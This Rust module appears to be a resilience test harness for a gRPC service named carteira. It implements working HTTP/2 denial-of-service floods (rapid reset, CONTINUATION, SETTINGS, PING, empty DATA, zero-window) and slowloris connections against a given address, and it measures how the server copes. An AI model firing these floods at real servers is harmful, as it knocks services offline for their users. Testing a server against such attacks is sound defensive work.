//! What an attacker does, for as long as it is let, from one thread.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use carteira::wire::v1;
use prost::Message;
use tokio::net::TcpStream;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GREETING, HEADERS, PING, RST_STREAM, SETTINGS,
    call, closes, connect, fields, frame, message, write,
};

/// How long a flood goes on.
pub const FLOOD: Duration = Duration::from_secs(3);
const GET_CLIENT: &str = "/carteira.v1.CatalogService/GetClient";

/// What an attack came to.
#[derive(Debug, Default)]
pub struct Done {
    pub sent: usize,
    pub connections: usize,
}

/// Sends what `next` makes, on one connection after the other as they are closed, until `enough`.
async fn flood(
    to: SocketAddr,
    mut next: impl FnMut(&mut u32) -> (Vec<u8>, usize),
    enough: impl Fn(&Done) -> bool,
) -> Done {
    let mut done = Done::default();
    while !enough(&done) {
        let Ok(mut stream) = connect(to, 1).await else {
            tokio::time::sleep(Duration::from_millis(5)).await;
            continue;
        };
        done.connections += 1;
        // Streams of a caller have odd numbers (RFC 9113, section 5.1.1).
        let mut number = 1;
        if write(&mut stream, GREETING).await.is_err() {
            continue;
        }
        while !enough(&done) {
            let (bytes, count) = next(&mut number);
            // A peer that reads no further is no reason to go on for ever.
            let written = tokio::time::timeout(FLOOD, write(&mut stream, &bytes)).await;
            if !matches!(written, Ok(Ok(()))) {
                break;
            }
            done.sent += count;
        }
    }
    done
}

fn for_a_while() -> impl Fn(&Done) -> bool {
    let end = Instant::now() + FLOOD;
    move |_| Instant::now() >= end
}

/// Opens calls and takes them back at once (CVE-2023-44487), at least so many.
pub async fn rapid_reset(to: SocketAddr, count: usize) -> Done {
    let headers = call(GET_CLIENT);
    let next = move |number: &mut u32| {
        let mut bytes = Vec::new();
        for _ in 0..50 {
            bytes.extend(frame(HEADERS, END_HEADERS, *number, &headers));
            bytes.extend(frame(RST_STREAM, 0, *number, &8_u32.to_be_bytes()));
            *number += 2;
        }
        (bytes, 50)
    };
    let long_enough = for_a_while();
    flood(to, next, move |done| {
        done.sent >= count && long_enough(done)
    })
    .await
}

/// Headers that never end (CVE-2024-27316).
pub async fn continuation(to: SocketAddr) -> Done {
    let filler = fields(&[("x-filler", &"a".repeat(100))]).repeat(100);
    let mut first = true;
    let next = move |number: &mut u32| {
        let mut bytes = Vec::new();
        if *number == 1 || first {
            first = false;
            bytes.extend(frame(HEADERS, 0, 1, &call(GET_CLIENT)));
            *number = 3;
        }
        for _ in 0..10 {
            bytes.extend(frame(CONTINUATION, 0, 1, &filler));
        }
        (bytes, 10)
    };
    flood(to, next, for_a_while()).await
}

/// SETTINGS that all ask for an acknowledgement (CVE-2019-9515).
pub async fn settings(to: SocketAddr) -> Done {
    let many = frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(500);
    flood(to, |_| (many.clone(), 500), for_a_while()).await
}

/// PINGs that all ask for an answer (CVE-2019-9512).
pub async fn pings(to: SocketAddr) -> Done {
    let many = frame(PING, 0, 0, &[7; 8]).repeat(500);
    flood(to, |_| (many.clone(), 500), for_a_while()).await
}

/// A call whose message is sent in pieces of nothing (CVE-2019-9518).
pub async fn empty_data(to: SocketAddr) -> Done {
    let many = frame(DATA, 0, 1, &[]).repeat(500);
    let next = move |number: &mut u32| {
        let mut bytes = Vec::new();
        if *number == 1 {
            bytes.extend(frame(HEADERS, END_HEADERS, 1, &call(GET_CLIENT)));
            *number = 3;
        }
        bytes.extend(&many);
        (bytes, 500)
    };
    flood(to, next, for_a_while()).await
}

/// Callers that ask for large answers and take none of them, or next to none (CVE-2019-9517).
pub async fn zero_window(
    to: SocketAddr,
    connections: usize,
    calls: u32,
    window: u32,
) -> Vec<TcpStream> {
    let request = v1::ListOpportunitiesRequest {
        portfolio_id: "large".into(),
        page_size: 1_000,
        ..Default::default()
    };
    let body = message(&request.encode_to_vec());
    let headers = call("/carteira.v1.RecommendationService/ListOpportunities");
    let mut held = Vec::new();
    for at in 0..connections {
        let Ok(mut stream) = connect(to, u8::try_from(at / 100).unwrap()).await else {
            continue;
        };
        let mut settings = vec![0, 4];
        settings.extend(window.to_be_bytes());
        let mut bytes = GREETING.to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &settings));
        for call in 0..calls {
            bytes.extend(frame(HEADERS, END_HEADERS, 2 * call + 1, &headers));
            bytes.extend(frame(DATA, END_STREAM, 2 * call + 1, &body));
        }
        if write(&mut stream, &bytes).await.is_ok() {
            held.push(stream);
        }
    }
    held
}

/// The ways in which a caller may begin and not go on.
pub fn beginnings() -> Vec<(&'static str, Vec<u8>)> {
    let greeted = |more: Vec<u8>| [GREETING.to_vec(), more].concat();
    let half_headers = frame(HEADERS, 0, 1, &call(GET_CLIENT));
    let mut half_body = frame(
        HEADERS,
        END_HEADERS,
        1,
        &call("/carteira.v1.TicketService/RecordSales"),
    );
    half_body.extend(frame(DATA, 0, 1, &[0, 0, 1, 0, 0, 1, 2, 3]));
    vec![
        ("nothing", Vec::new()),
        ("half a preface", GREETING[..12].to_vec()),
        ("a greeting", GREETING.to_vec()),
        ("half a frame", greeted(frame(PING, 0, 0, &[7; 8])[..12].to_vec())),
        ("headers without their end", greeted(half_headers)),
        ("half a body", greeted(half_body)),
        ("half a request of HTTP/1", b"POST /a HTTP/1.1\r\nHost: a\r\n".to_vec()),
        (
            "half a body of HTTP/1",
            format!("POST {GET_CLIENT} HTTP/1.1\r\nHost: a\r\nContent-Type: application/grpc-web\r\nContent-Length: 100\r\n\r\n\0\0")
                .into_bytes(),
        ),
    ]
}

/// Connections that begin and do not go on, and how long each was kept; `None` for one that was kept
/// longer than `patience`.
pub async fn slow_loris(
    to: SocketAddr,
    count: usize,
    patience: Duration,
) -> Vec<(&'static str, Option<Duration>)> {
    let beginnings = beginnings();
    let mut kept = Vec::new();
    for at in 0..count {
        let (name, said) = beginnings[at % beginnings.len()].clone();
        let from = u8::try_from(2 + at / 150).unwrap();
        kept.push(tokio::spawn(async move {
            let began = Instant::now();
            let Ok(mut stream) = connect(to, from).await else {
                return (name, Some(began.elapsed()));
            };
            // A refused connection is closed before it is written to.
            if write(&mut stream, &said).await.is_err() {
                return (name, Some(began.elapsed()));
            }
            let closed = closes(&mut stream, patience).await;
            (name, closed.then(|| began.elapsed()))
        }));
        if at % 50 == 49 {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
    let mut ends = Vec::new();
    for kept in kept {
        ends.push(kept.await.unwrap());
    }
    ends
}
